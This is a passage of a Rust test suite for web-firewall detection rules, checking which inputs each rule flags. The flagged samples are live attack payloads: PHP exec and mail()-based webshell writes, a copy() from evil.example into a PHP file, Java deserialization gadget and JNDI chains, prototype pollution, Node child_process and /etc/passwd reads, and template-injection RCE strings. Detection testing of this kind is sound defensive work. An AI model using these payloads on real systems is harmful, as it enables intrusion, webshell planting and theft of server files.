    fn an_exec_function_given_a_command_word_fires_but_a_method_or_plural_does_not() {
        assert!(fires(933150, "system(whoami)"));
        assert!(fires(933150, "passthru(ls -la)"));
        assert!(fires(933150, ";exec(id)"));
        assert!(!fires(933150, "os.system(cmd)"));
        assert!(!fires(933150, "the operating system(s)"));
        assert!(!fires(933150, "$proc->exec(ls)"));
        // Sendmail's options through mail(), a remote file copied to PHP.
        assert!(fires(
            933150,
            "mail('a@b.c', 'x', 'y', '', '-X /var/www/shell.php');"
        ));
        assert!(fires(933150, "copy('http://evil.example/s.txt', 's.php');"));
        assert!(!fires(933150, "mail('a@b.c', 'Subject', 'body - regards')"));
        assert!(!fires(933150, "copy('http://a.example/x.png', 'x.png')"));
        assert!(fires(
            933150,
            "mail('a','b','c','d','-f x -X /var/www/x.php')"
        ));
        assert!(!fires(
            933150,
            "mail($to, $subject, $body, $headers, '-oi');"
        ));
        assert!(!fires(933150, "mail($to, $subject, $body, '', \"-odb\")"));
    }

    #[test]
    fn a_superglobal_fires_also_named_by_a_string() {
        assert!(fires(933130, "$_GET['x']"));
        assert!(fires(933130, "${\"_GET\"}['x']"));
        assert!(fires(933130, "${ '_SERVER' }"));
        assert!(!fires(933130, "${get} and $getter"));
    }

    #[test]
    fn a_call_of_a_php_only_function_fires_at_paranoia_two_but_a_method_or_mention_does_not() {
        for a in [
            "pfsockopen('foo', 25)",
            "posix_getegid()",
            "curl_iNit()",
            "posix_getpwuid(0)",
            "var_dump(scandir('.'));",
            "filegroup  (blah)",
            "x;base64_decode /*c*/ ($x)",
        ] {
            assert!(fires(933151, a), "missed {a:?}");
        }
        for b in [
            "$ch->curl_init()",
            "os.posix_spawn(path)",
            "I don't like gzuncompress",
            "the base64_decode function",
            "socket.gethostbyname",
            "struct hostent *h = gethostbyname(name);",
            "posix_memalign(&p, 64, n);",
        ] {
            assert!(!fires(933151, b), "flagged {b:?}");
        }
    }

    #[test]
    fn java_serialized_streams_and_gadget_classes_fire() {
        for a in [
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
            "aced00057372",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "ProcessBuilder.evil.clonetransformer",
            "{\"@class\": \"ChainedTransformer\", \"x\": 1}",
            "runtime.whileclosure",
            "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://e/a\"}]",
            "{\"@class\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"x\"}",
            "org.springframework.context.support.ClassPathXmlApplicationContext",
            "<java.beans.XMLDecoder>",
        ] {
            assert!(fires(944130, a), "missed {a}");
        }
        assert!(!fires(944130, "a transformer model with a closure"));
        assert!(!fires(
            944130,
            "{\"@class\":\"com.example.OrderDto\",\"id\":1}"
        ));
        assert!(!fires(944130, "[\"java.io.tmpdir\", {\"a\": 1}]"));
    }

    #[test]
    fn a_gadget_class_named_alone_fires_but_a_property_or_an_application_type_does_not() {
        for a in [
            "java.io.BufferedInputStream",
            "java.lang.ProcessBuilder",
            "org.omg.CORBA",
            "com.sun.rowset.JdbcRowSetImpl",
            "ch.qos.logback.core.db.JNDIConnectionSource",
            "org.apache.xbean.propertyeditor.JndiConverter",
        ] {
            assert!(fires(944140, a), "missed {a:?}");
        }
        for b in [
            "java.io.tmpdir",
            "java.version",
            "org.apache.commons",
            "javaScript",
            "java.util.ArrayList",
            "java.time.OffsetDateTime",
            "org.hibernate.SQL",
            "org.apache.kafka.clients.NetworkClient",
            "com.alibaba.demo.OrderDto",
        ] {
            assert!(!fires(944140, b), "flagged {b:?}");
        }
        // Inside a longer value, only as a key of JSON: not a stack trace, a log
        // line, or a logger's level map of the application's own classes.
        assert!(fires(944145, "{\"java.io.DataInputStream\": \"test\"}"));
        assert!(fires(944145, "[1, {'x': 2}, {'org.omg.CORBA': [3]}]"));
        assert!(!fires(944145, "{\"org.hibernate.SQL\": \"debug\"}"));
        assert!(!fires(
            944145,
            "{\"org.apache.kafka.clients.NetworkClient\": \"WARN\"}"
        ));
        assert!(!fires(944145, "at java.io.Reader.read(Reader.java:140)"));
        assert!(!fires(944145, "{\"java.io.tmpdir\": \"/tmp\"}"));
        assert!(!fires(944145, "{\"error\": \"java.io.IOException\"}"));
    }

    #[test]
    fn prototype_pollution_in_bracket_notation_fires_but_prose_does_not() {
        assert!(fires(934110, "constructor[prototype][test]=test"));
        assert!(fires(934110, "a[constructor][prototype][onerror]"));
        assert!(!fires(934110, "the constructor and the prototype [MDN]"));
    }

    #[test]
    fn the_function_constructor_reached_without_a_leading_dot_fires() {
        assert!(fires(
            934100,
            "{{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(97))()}}"
        ));
        assert!(!fires(
            934100,
            "the constructor.constructor chain (see docs)"
        ));
        for a in [
            "require('fs').readFileSync('/etc/passwd')",
            "process.mainModule.require('fs')",
            "require('child_process')",
            "process.kill(process.pid)",
            "require(\"os\")[\"userInfo\"]()",
            "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process')}()\"}",
            "_$$ND_FUNC$$_function() {",
            "process[\"env\"]",
            "process[mainModule",
            "require[req.query.a]",
            "while(true);",
            "while(!0);",
            "while(new Date);",
            "while(!false)",
            "Process.spawn(\"id\")",
            "@{[system whoami]}",
            "x' (function(){var a=new Date();do{var b=new Date();}while(b-a<20000);}()) '",
            "';while(Date.now()-t<5000){}//",
        ] {
            assert!(fires(934100, a), "missed {a}");
        }
        // Imports and prose in a README.
        for b in [
            "var fs = require('fs')",
            "const http = require(\"http\");",
            "Note that the `process.kill` is only called once",
            "while (true) { poll(); }",
            "while(queue.length);",
            "loop while(true) until done",
            "process[0] is the first one",
            "while(!true);",
            "while(0);",
            "while (i - j < 10) i++;",
        ] {
            assert!(!fires(934100, b), "flagged {b}");
        }
    }

    #[test]
    fn templates_reading_the_request_fire_but_template_prose_does_not() {
        for a in [
            "{{request.args.xss|safe}}",
            "{% include request.GET.template %}",
            "{% csrf_token %}{{request.GET.xss|safe}}",
            "@{{request('xss')}}",
            "{{url(request('callback'))}}",
            "@component(request('component'))",
            "{!!$xss!!}",
        ] {
            assert!(fires(934170, a), "missed {a}");
        }
        for b in [
            "{{ user.name }} made a request",
            "request.GET is a dict",
            "{% if items %}request a quote{% endif %}",
            "{!! trans('x') !!}",
            "@media (request)",
        ] {
            assert!(!fires(934170, b), "flagged {b}");
        }
    }

    #[test]
    fn template_filters_and_spring_type_references_fire_but_templates_do_not() {
        assert!(fires(934130, "{{7|times:7}}"));
        assert!(fires(934130, "{{ 6 | plus: 1 }}"));
        assert!(!fires(934130, "{{ price | times: 1.2 }}"));
        assert!(!fires(934130, "{{ 3 | pluralize }}"));
        // ZAP's probes: single braces, Django's add, Go's print, Dust's math, Ruby's
        // %x, and a polyglot of template openers.
        for a in [
            "zj{2531*7419}zj",
            "}zj{#2531*7419}zj",
            "zj{{25310|add:74190}}zj",
            "zj{{print \"2531\" \"7419\"}}zj",
            "zj{@math key=\"2531\" method=\"multiply\" operand=\"7419\"/}zj",
            "#{%x(sleep 5)}",
            "<%={{={@{#{${zj}}%>",
        ] {
            assert!(fires(934130, a), "missed {a}");
        }
        for b in [
            "\\frac{2*3}{4}",
            "{{ print name }}",
            "{{{{raw}}}}",
            "${a}${b}${c}",
        ] {
            assert!(!fires(934130, b), "flagged {b}");
        }
        for a in [
            "#{T(org.apache.commons.lang3.SystemUtils).IS_OS_LINUX}",
            "${T(java.lang.Runtime).getRuntime()}",
            "${class.getClassLoader()}",
            "#{request.class.forName('x')}",
            "{{'id'|system}}",
            "{{ ['id'] | map('x') | exec }}",
            "${rce=\"id\";rce.execute().text}",
            "${\"id\".execute()}",
            "<%=(`id`)%>",
            "@System.Diagnostics.Process.Start(\"cmd.exe\", \"/c id\")",
            "{{id~passthru~_context|join}}",
            "#request.get('x').internalGet('ognl').findValue(#parameters.poc[0],{})",
        ] {
            assert!(fires(934160, a), "missed {a}");
        }
        for b in [
            "#{total}",
            "${t(key)}",
            "${t(common.title)}",
            "${item.class}",
            "{{ name | upper }}",
            "{{ title|escape }}",
            "a system | exec time",
            "the class.forName method",
            "cursor.execute(query)",
            "a ~ b ~ c",
        ] {
            assert!(!fires(934160, b), "flagged {b}");
        }
    }
}
